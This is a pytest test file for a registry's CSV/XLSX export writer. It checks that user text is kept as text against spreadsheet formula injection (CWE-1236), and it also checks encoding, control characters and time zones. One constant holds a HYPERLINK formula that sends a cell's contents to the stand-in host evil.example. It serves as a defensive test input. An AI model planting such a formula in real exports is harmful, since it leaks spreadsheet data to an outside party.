"""registry.exports: the one CSV/XLSX writer keeps a user's text as text (CWE-1236)."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from registry.exports import csv_cell, iter_csv, sheet_title, xlsx_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _csv(header, rows):
    return list(csv.reader(io.StringIO(b"".join(iter_csv(header, rows)).decode("utf-8-sig"))))


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_csv_neutralises_every_formula_trigger(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Жылыжай", "a=b", " =x", "1-2", ""])
def test_csv_leaves_ordinary_text_alone(text):
    assert csv_cell(text) == text


def test_csv_numbers_stay_numbers_even_negative():
    assert csv_cell(-5) == -5 and csv_cell(Decimal("-1.50")) == Decimal("-1.50") and csv_cell(None) == ""


def test_csv_is_utf8_with_bom_and_round_trips_kazakh_text():
    raw = b"".join(iter_csv(["Атауы"], [["Қазақстан ғ-ү"], [HYPERLINK]]))
    assert raw.startswith("\ufeff".encode())
    assert _csv(["Атауы"], [["Қазақстан ғ-ү"], [HYPERLINK]]) == [["Атауы"], ["Қазақстан ғ-ү"], ["'" + HYPERLINK]]


def test_xlsx_formula_text_is_a_string_cell_not_a_formula():
    content = xlsx_bytes(["name", "n"], [[HYPERLINK, 3], ["+7 701", Decimal("2.5")]], title="t")
    sheet = load_workbook(io.BytesIO(content)).active
    cell = sheet.cell(row=2, column=1)
    assert cell.value == HYPERLINK and cell.data_type == "s"
    assert sheet.cell(row=3, column=1).data_type == "s"
    assert sheet.cell(row=2, column=2).value == 3 and sheet.cell(row=3, column=2).value == 2.5


def test_xlsx_drops_control_characters_and_writes_local_naive_times():
    at = datetime(2026, 3, 2, 4, 0, tzinfo=ZoneInfo("UTC"))
    content = xlsx_bytes(["a", "b", "c"], [["bell\x07text", at, date(2026, 1, 31)]], title="t")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.cell(row=2, column=1).value == "belltext"
    # The portal's zone (Asia/Almaty), without a zone: spreadsheets have none.
    assert sheet.cell(row=2, column=2).value == at.astimezone(ZoneInfo("Asia/Almaty")).replace(tzinfo=None)
    assert sheet.cell(row=2, column=3).value.date() == date(2026, 1, 31)


def test_sheet_title_fits_excel():
    assert sheet_title("a/b:c" + "x" * 40) == ("a b c" + "x" * 40)[:31] and sheet_title("") == "Sheet"
